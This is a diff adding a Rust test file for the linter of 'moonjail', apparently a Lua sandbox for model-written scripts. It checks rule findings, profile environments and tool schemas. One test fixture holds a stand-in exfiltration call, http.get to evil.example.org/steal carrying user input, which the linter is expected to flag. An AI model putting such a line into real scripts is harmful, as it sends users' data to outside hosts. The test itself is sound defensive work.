@@ -1,0 +1,514 @@
+//! `Sandbox::lint`: the linter against the exact sandbox a script would run in.
+//!
+//! Three promises are held here: the linter's view of a sandbox is the sandbox (compared
+//! with a real run's environment in every profile), scripts written the way models write
+//! them get the findings they deserve at the right lines, and code that runs correctly
+//! gets no error finding (the repository's examples, benchmarks, AO fixtures and a
+//! corpus of real modules).
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use moonjail::{Profile, Sandbox, Severity, ToolError};
+use serde_json::{json, Value};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+/// `(rule, line)` of every finding of at least `severity`.
+fn found(sandbox: &Sandbox, code: &str, severity: Severity) -> Vec<(&'static str, u32)> {
+    sandbox
+        .lint(code)
+        .findings
+        .iter()
+        .filter(|f| f.severity <= severity)
+        .map(|f| (f.rule, f.line))
+        .collect()
+}
+
+fn errors(sandbox: &Sandbox, code: &str) -> Vec<(&'static str, u32)> {
+    found(sandbox, code, Severity::Error)
+}
+
+fn with_tools(profile: Profile) -> Sandbox {
+    Sandbox::builder()
+        .profile(profile)
+        .tool("weather.lookup", |_| Ok(json!({"forecast": "sunny"})))
+        .tool("log", |_| Ok(Value::Null))
+        .allow_http("api.example.com")
+        .build()
+        .expect("a valid sandbox")
+}
+
+/// A run's environment, read from inside: each global with its members. Profiles with
+/// `_G` list it whole; `minimal` has no `_G`, so every name either side could know of is
+/// probed by name.
+fn runtime_environment(sandbox: &Sandbox, probe: &[String]) -> BTreeMap<String, Vec<String>> {
+    let mut script = String::from(
+        r#"
+local names = {}
+local function members(v)
+  local t = {}
+  if type(v) == "table" or type(v) == "userdata" then
+    for k in pairs(v) do t[#t + 1] = k end
+  end
+  table.sort(t)
+  return t
+end
+local function add(k, v)
+  if k == "_G" then names[k] = {} else names[k] = members(v) end
+end
+"#,
+    );
+    for name in probe {
+        script.push_str(&format!(
+            "if {name} ~= nil then add({name:?}, {name}) end\n"
+        ));
+    }
+    script.push_str("return names\n");
+    let outcome = sandbox.run(&script, &Value::Null);
+    let value = outcome.result.expect("the probe runs");
+    let Value::Object(names) = value else {
+        panic!("not an object: {value}")
+    };
+    names
+        .into_iter()
+        .map(|(name, members)| {
+            // An empty Lua table crosses as `{}`.
+            let members = match members {
+                Value::Array(list) => list
+                    .into_iter()
+                    .map(|m| m.as_str().unwrap_or_default().to_string())
+                    .collect(),
+                _ => Vec::new(),
+            };
+            (name, members)
+        })
+        .collect()
+}
+
+#[test]
+fn the_linters_view_is_the_sandbox_in_every_profile() {
+    let stock = [
+        "_G",
+        "_VERSION",
+        "assert",
+        "collectgarbage",
+        "coroutine",
+        "debug",
+        "dofile",
+        "error",
+        "getmetatable",
+        "io",
+        "ipairs",
+        "load",
+        "loadfile",
+        "math",
+        "next",
+        "os",
+        "package",
+        "pairs",
+        "pcall",
+        "print",
+        "rawequal",
+        "rawget",
+        "rawlen",
+        "rawset",
+        "require",
+        "select",
+        "setmetatable",
+        "string",
+        "table",
+        "tonumber",
+        "tostring",
+        "type",
+        "utf8",
+        "warn",
+        "xpcall",
+        "json",
+        "http",
+        "weather",
+        "log",
+        "unpack",
+        "loadstring",
+        "setfenv",
+        "jit",
+        "bit32",
+        "module",
+    ];
+    for profile in Profile::ALL {
+        let sandbox = with_tools(profile);
+        let view = sandbox.lint_environment();
+        let mut probe: Vec<String> = stock.iter().map(|s| s.to_string()).collect();
+        probe.extend(view.keys().cloned());
+        probe.sort();
+        probe.dedup();
+        let runtime = runtime_environment(&sandbox, &probe);
+        assert_eq!(view, runtime, "profile {profile}");
+        if profile.spec().has_global("_G") {
+            // And nothing outside the probe: pairs(_G) lists the whole environment.
+            let out = sandbox.run(
+                "local n = 0 for _ in pairs(_G) do n = n + 1 end return n",
+                &Value::Null,
+            );
+            assert_eq!(out.result, Ok(json!(view.len())), "profile {profile}");
+        }
+    }
+}
+
+#[test]
+fn scripts_as_models_write_them() {
+    let sandbox = with_tools(Profile::Standard);
+    let script = r#"local input = ...
+local city = input.city
+if city != nil then
+  print(city)
+end
+local n = 0
+n += 1
+local f = io.open("data.txt")
+local parts = string.spilt(city, ",")
+local w = weather.lookpu{city = city}
+local s = string.find(city, "[a-")
+local r = http.get("https://evil.example.org/steal?x=" .. city)
+return {f, parts, w, s, r}
+"#;
+    assert_eq!(
+        errors(&sandbox, script),
+        [
+            ("syntax", 3),
+            ("syntax", 7),
+            ("removed-global", 8),
+            ("unknown-member", 9),
+            ("unknown-member", 10),
+            ("bad-pattern", 11),
+            ("http-host", 12),
+        ]
+    );
+    let report = sandbox.lint(script);
+    let hint = |line: u32| {
+        report
+            .findings
+            .iter()
+            .find(|f| f.line == line)
+            .and_then(|f| f.suggestion.clone())
+            .unwrap_or_default()
+    };
+    assert!(hint(3).contains("`~=`"), "{}", hint(3));
+    assert!(hint(7).contains("n = n + ..."), "{}", hint(7));
+    assert!(hint(9).contains("gmatch"), "{:#?}", report.findings);
+    assert_eq!(hint(10), "did you mean `weather.lookup`?");
+    let removed = report.findings.iter().find(|f| f.line == 8).unwrap();
+    assert!(
+        removed.message.contains("on purpose"),
+        "{}",
+        removed.message
+    );
+    assert_eq!((removed.column, removed.end_column), (11, 13));
+    assert!(report.manifest.hosts.contains("evil.example.org:443"));
+}
+
+#[test]
+fn each_rule_at_its_line() {
+    let sandbox = with_tools(Profile::Standard);
+    let cases: &[(&str, &[(&str, u32)])] = &[
+        ("local x = 1\nreturn y.z", &[("undefined-global", 2)]),
+        ("prnit('x')", &[("undefined-global", 1)]),
+        ("weather.lookup = nil", &[("readonly-write", 1)]),
+        ("return string.sub()", &[("arg-count", 1)]),
+        ("table.insert({}, 1, 2, 3)", &[("arg-count", 1)]),
+        ("return ('x'):gsub('(a)', '%2')", &[("bad-pattern", 1)]),
+        ("return string.match('x', '%')", &[("bad-pattern", 1)]),
+        (
+            "return http.get('http://api.example.com:8080/')",
+            &[("http-host", 1)],
+        ),
+        (
+            "local function f()\n  return 1\n  print('x')\nend",
+            // The `end` the parser then finds alone is its own error.
+            &[("unreachable-code", 2), ("syntax", 4)],
+        ),
+        ("return string.dump(print)", &[("removed-global", 1)]),
+        ("return os.execute('ls')", &[("removed-global", 1)]),
+        ("return debug.traceback()", &[("removed-global", 1)]),
+    ];
+    for (code, expected) in cases {
+        assert_eq!(&errors(&sandbox, code), expected, "{code}");
+    }
+    let warnings: &[(&str, &[(&str, u32)])] = &[
+        ("local unused = 1", &[("unused-local", 1)]),
+        (
+            "local x = 1\nif x then\n  local x = 2\n  print(x)\nend",
+            &[("shadowing", 3)],
+        ),
+        ("return #{a = 1}", &[("length-of-map", 1)]),
+        (
+            "local t = {}\nfor i = 0, #t do print(t[i]) end",
+            &[("zero-based-loop", 2)],
+        ),
+        ("return load(...)", &[("dynamic-load", 1)]),
+        (
+            "return s:match('[')",
+            &[("undefined-global", 1), ("bad-pattern", 1)],
+        ),
+        ("return null", &[("undefined-global", 1)]),
+    ];
+    for (code, expected) in warnings {
+        assert_eq!(&found(&sandbox, code, Severity::Info), expected, "{code}");
+    }
+}
+
+#[test]
+fn the_sandbox_decides_what_exists() {
+    let minimal = Sandbox::builder()
+        .profile(Profile::Minimal)
+        .build()
+        .unwrap();
+    assert_eq!(
+        errors(&minimal, "return setmetatable({}, {})"),
+        [("removed-global", 1)]
+    );
+    assert_eq!(
+        errors(&minimal, "return require('x')"),
+        [("removed-global", 1)]
+    );
+    let aos = Sandbox::builder().profile(Profile::Aos).build().unwrap();
+    assert_eq!(errors(&aos, "return require('x'), io.open('f')"), []);
+    assert_eq!(
+        errors(&aos, "return io.lines('f')"),
+        [("removed-global", 1)]
+    );
+    let standard = Sandbox::default();
+    assert_eq!(
+        errors(&standard, "return weather.lookup{}"),
+        [("undefined-global", 1)]
+    );
+    assert_eq!(
+        errors(&standard, "return http.get('https://a.b/')"),
+        [("removed-global", 1)]
+    );
+    let strict = Sandbox::builder().require_run(true).build().unwrap();
+    assert_eq!(errors(&strict, "return 1"), [("missing-run", 1)]);
+    assert_eq!(errors(&strict, "function run(x) return x end"), []);
+    let small = Sandbox::builder().source_limit(4).build().unwrap();
+    assert_eq!(errors(&small, "return 1"), [("source-limit", 1)]);
+}
+
+#[test]
+fn feature_detection_and_own_definitions_are_not_errors() {
+    let sandbox = Sandbox::default();
+    for code in [
+        "local unpack = table.unpack or unpack\nreturn unpack({1})",
+        "if setfenv then setfenv(1, {}) end",
+        "if not jit then return end\njit.off()",
+        "function helper() return 1 end\nreturn helper()",
+        "local function f() return g() end\nfunction g() return 1 end\nreturn f()",
+        "function string.trim(s) return (s:gsub('^%s+', '')) end\nreturn string.trim(' x')",
+        "local _ENV = {print = print}\nprint(x.y)",
+        "setmetatable(_G, {__index = function() return print end})\nreturn anything()",
+        "local s = ('x'):rep(3):upper()\nreturn s",
+        "local t <const> = 1 // 2\nlocal c <close> = nil\ngoto done\n::done::\nreturn t",
+        "#!/usr/bin/env lua\nreturn 1",
+        "\u{feff}return 1",
+        "return string.find('a.b', '.', 1, true)",
+        "return json.encode({json.null})",
+    ] {
+        assert_eq!(errors(&sandbox, code), [], "{code}");
+    }
+    // The shebang line keeps line numbers.
+    let report = sandbox.lint("#!/usr/bin/env lua\n\nreturn nope.x");
+    assert_eq!(report.findings[0].line, 3);
+}
+
+#[test]
+fn the_manifest_says_what_the_script_reaches() {
+    let sandbox = with_tools(Profile::Standard);
+    let report = sandbox.lint(
+        r#"local w = weather.lookup{city = "Lyon"}
+log("x")
+local body = http.get("https://api.example.com/v1?q=" .. w.city).body
+local f = load(body)
+return string.format("%s", json.decode(body)), f"#,
+    );
+    assert!(!report.has_errors(), "{:?}", report.findings);
+    let m = &report.manifest;
+    assert_eq!(
+        m.tools.iter().collect::<Vec<_>>(),
+        ["http.get", "log", "weather.lookup"]
+    );
+    assert!(m.library.contains("string.format") && m.library.contains("json.decode"));
+    assert!(m.globals.contains("weather") && m.globals.contains("load"));
+    assert_eq!(m.hosts.iter().collect::<Vec<_>>(), ["api.example.com:443"]);
+    assert!(m.dynamic_load);
+    let doc = serde_json::to_value(&report).unwrap();
+    assert!(doc["findings"].is_array());
+    assert_eq!(doc["manifest"]["dynamic_load"], true);
+}
+
+#[test]
+fn hostile_sources_are_linted_without_harm() {
+    let sandbox = Sandbox::builder().no_source_limit().build().unwrap();
+    // Deeper than any parser recursion can take: refused as too complex.
+    let deep = format!("return {}1{}", "(".repeat(100_000), ")".repeat(100_000));
+    assert_eq!(found(&sandbox, &deep, Severity::Info), [("too-complex", 1)]);
+    // Deep but within the bound: parsed, on a grown stack.
+    let nested = format!("return {}1{}", "{".repeat(950), "}".repeat(950));
+    assert_eq!(errors(&sandbox, &nested), []);
+    let chain = format!("return 1{}", " .. 1".repeat(950));
+    assert_eq!(errors(&sandbox, &chain), []);
+    for junk in [
+        &b"\xff\xfe\x00 return"[..],
+        b"\x1bLua",
+        b"[[",
+        b"'",
+        b"--[==[",
+        b"x = = =",
+    ] {
+        let _ = sandbox.lint(junk);
+    }
+    assert_eq!(errors(&sandbox, "\x1bLua"), [("binary-chunk", 1)]);
+}
+
+/// A Lua file of the repository or the corpus, with the sandbox it runs in.
+fn no_errors(sandbox: &Sandbox, path: &Path) {
+    let code = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let report = sandbox.lint(&code);
+    let errors: Vec<_> = report.errors().collect();
+    assert!(errors.is_empty(), "{}: {errors:#?}", path.display());
+}
+
+fn lua_files(dir: &Path) -> Vec<PathBuf> {
+    let mut files = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                stack.push(path);
+            } else if path.extension().is_some_and(|e| e == "lua") {
+                files.push(path);
+            }
+        }
+    }
+    files.sort();
+    files
+}
+
+#[test]
+fn code_that_runs_lints_without_errors() {
+    let root = repo();
+    let standard = Sandbox::default();
+    let minimal = Sandbox::builder()
+        .profile(Profile::Minimal)
+        .build()
+        .unwrap();
+    let aos = Sandbox::builder().profile(Profile::Aos).build().unwrap();
+    let http = Sandbox::builder()
+        .allow_http("127.0.0.1:8765")
+        .build()
+        .unwrap();
+    no_errors(&minimal, &root.join("examples/minimal.lua"));
+    no_errors(&standard, &root.join("examples/hello.lua"));
+    no_errors(&standard, &root.join("examples/agent.lua"));
+    no_errors(&http, &root.join("examples/agent_http.lua"));
+    let bench = lua_files(&root.join("bench/lua"));
+    assert!(bench.len() >= 9, "{bench:?}");
+    for file in bench {
+        no_errors(&standard, &file);
+    }
+    // The heap helper is for stock lua5.4, and uses what the sandbox removes.
+    let helper = standard.lint(std::fs::read(root.join("bench/peak_heap.lua")).unwrap());
+    let removed: Vec<_> = helper.errors().map(|f| (f.rule, f.line)).collect();
+    assert_eq!(
+        removed,
+        [
+            ("undefined-global", 5),
+            ("removed-global", 6),
+            ("removed-global", 8),
+            ("removed-global", 18)
+        ]
+    );
+    let ao = lua_files(&root.join("crates/moonjail/tests/fixtures/ao"));
+    assert_eq!(ao.len(), 3);
+    for file in ao {
+        no_errors(&aos, &file);
+    }
+}
+
+#[test]
+fn real_modules_lint_without_errors() {
+    let corpus = lua_files(&repo().join("crates/moonjail/tests/lint_corpus"));
+    assert!(corpus.len() >= 3, "{corpus:?}");
+    let standard = Sandbox::default();
+    for file in &corpus {
+        no_errors(&standard, file);
+        // And they do run there: each returns its module table.
+        let code = std::fs::read_to_string(file).unwrap();
+        let wrapped = format!("return type((function(...)\n{code}\nend)())");
+        let out = standard.run(&wrapped, &Value::Null);
+        assert_eq!(out.result, Ok(json!("table")), "{}", file.display());
+    }
+}
+
+#[test]
+fn tool_names_in_findings_come_from_the_registry() {
+    let sandbox = Sandbox::builder()
+        .tool("a.b.c", |_| Err(ToolError::new("no")))
+        .build()
+        .unwrap();
+    assert_eq!(errors(&sandbox, "return a.b.c(1)"), []);
+    assert_eq!(errors(&sandbox, "return a.b.d(1)"), [("unknown-member", 1)]);
+    assert_eq!(errors(&sandbox, "return a.x.c(1)"), [("unknown-member", 1)]);
+    assert_eq!(errors(&sandbox, "a.b = 1"), [("readonly-write", 1)]);
+}
+
+#[test]
+fn literal_tool_arguments_meet_the_tools_schema() {
+    let sandbox = Sandbox::builder()
+        .tool("weather.lookup", |_| Ok(json!({"forecast": "sunny"})))
+        .describe_tool(
+            "weather.lookup",
+            moonjail::ToolSpec::new().parameters(json!({
+                "type": "object",
+                "properties": {"city": {"type": "string"}, "days": {"type": "integer"}},
+                "required": ["city"],
+                "additionalProperties": false
+            })),
+        )
+        .build()
+        .unwrap();
+    assert_eq!(
+        errors(&sandbox, "return weather.lookup{city = 'Lyon', days = 3}"),
+        []
+    );
+    assert_eq!(
+        errors(
+            &sandbox,
+            "local x = 1\nreturn weather.lookup{town = 'Lyon'}"
+        ),
+        [("tool-schema", 2)]
+    );
+    assert_eq!(
+        errors(
+            &sandbox,
+            "return weather.lookup{city = 'Lyon', days = 'three'}"
+        ),
+        [("tool-schema", 1)]
+    );
+    assert_eq!(
+        errors(&sandbox, "return weather.lookup('Lyon')"),
+        [("tool-schema", 1)]
+    );
+    // What the script computes is checked when it runs, not here.
+    assert_eq!(
+        errors(&sandbox, "local c = ... return weather.lookup{city = c}"),
+        []
+    );
+    let report = sandbox.lint("return weather.lookup{town = 'Lyon'}");
+    let message = &report.findings[0].message;
+    assert!(message.contains("weather.lookup"), "{message}");
+    // The run refuses the same arguments, with the same schema.
+    let out = sandbox.run("return weather.lookup{town = 'Lyon'}", &Value::Null);
+    assert!(out.error().is_some(), "{:?}", out.result);
+}
